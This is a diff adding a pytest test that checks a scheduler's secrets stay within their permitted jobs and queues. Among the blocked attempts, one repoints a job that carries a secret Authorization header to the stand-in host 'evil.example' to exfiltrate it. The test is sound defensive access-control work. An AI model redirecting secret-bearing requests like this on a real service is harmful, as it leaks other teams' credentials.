@@ -1,6 +1,8 @@
 """Secrets are set, listed and deleted, and the store has nothing of their values."""
 
 import os
+from collections.abc import Awaitable, Callable
+from functools import partial
 
 import pytest
 from cryptography.fernet import Fernet
@@ -155,6 +157,40 @@ async def test_only_admins_set_secrets(world: World) -> None:
     with pytest.raises(Forbidden):
         await acting(Role.READ).secrets.list()
     assert (await acting(Role.ADMIN).secrets.set("X", VALUE)).by == "ci"
+
+
+async def test_a_token_of_a_queue_names_no_secret_of_others(world: World) -> None:
+    """Whichever id its job gets, by whichever method; what a job sends already stays while the rest of it is edited."""
+    await world.service.secrets.set("PAY", VALUE, jobs=["pay-"])
+    await world.service.secrets.set("ANY", VALUE)
+    service = permitted(world.service, Access(author="ci", role=Role.OPERATE, scope=Scope(queues=("qq",))))
+    named = {"url": "https://example.org/", "headers": {"Authorization": "Bearer {{ secret.PAY }}"}}
+    signed = {"url": "https://example.org/", "method": "POST", "sign_with": "PAY"}
+    mail = {"email": ["a@b.c"], "smtp": "mail.example.org", "sender": "a@b.c", "smtp_user": "u", "smtp_password": "PAY"}
+    unknown = {"url": "https://example.org/?{{secret.NONE}}"}
+    await service.add("pay-mine", noop=True, queue="qq")
+    await world.add({**named, "queue": "qq"}, "pay-theirs")
+    for fields in (named, signed, mail, unknown):
+        wrong: list[Callable[[], Awaitable[object]]] = [
+            partial(service.add, "pay-new", queue="qq", **fields),
+            partial(service.update, "pay-mine", **fields),
+            partial(service.import_all, [("pay-new", world.define({**fields, "queue": "qq"}))]),
+        ]
+        for act in wrong:
+            with pytest.raises(Forbidden, match=r"secret: '(PAY|NONE)': it is not within"):
+                await act()
+    for steal in (
+        partial(service.copy_job, "pay-theirs", "pay-copy"),
+        partial(service.update, "pay-theirs", url="https://evil.example/"),
+        partial(service.rename_job, "pay-theirs", "pay-renamed"),
+    ):
+        with pytest.raises(Forbidden):
+            await steal()
+    assert (await service.update("pay-theirs", schedule="@daily")).definition.schedule == "@daily"
+    assert [each.name for each in await service.secrets.list()] == ["ANY"]
+    await service.add("uses-any", queue="qq", url="https://example.org/?{{secret.ANY}}")
+    owner = permitted(world.service, Access(author="pay", role=Role.OPERATE, scope=Scope(jobs=("pay-",))))
+    assert (await owner.add("pay-real", url="https://example.org/?{{secret.PAY}}")).id == "pay-real"
 
 
 async def test_no_door_opens_a_secret(world: World) -> None:
